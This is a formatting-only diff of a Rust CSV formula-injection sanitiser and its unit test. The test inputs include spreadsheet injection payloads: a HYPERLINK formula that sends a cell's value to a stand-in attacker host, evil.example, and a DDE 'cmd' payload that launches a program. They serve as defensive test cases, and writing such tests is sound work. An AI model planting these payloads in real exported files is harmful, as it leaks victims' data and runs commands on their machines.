@@ -94,7 +94,9 @@ fn harmless(cell: &str) -> String {
             harmless.push('\'');
         }
         harmless.push(c);
-        is_start = matches!(c, ';' | '；') || c.is_whitespace() && (is_start || matches!(c, '\n' | '\t')) || is_start && c == '"';
+        is_start = matches!(c, ';' | '；')
+            || c.is_whitespace() && (is_start || matches!(c, '\n' | '\t'))
+            || is_start && c == '"';
     }
     harmless
 }
@@ -112,7 +114,10 @@ mod tests {
     #[test]
     fn what_begins_like_a_formula_does_not_any_more_and_the_rest_stays() {
         for (cell, expected) in [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")"),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"退款\")",
+            ),
             ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
             ("@SUM(1+1)", "'@SUM(1+1)"),
             ("-2+3", "'-2+3"),
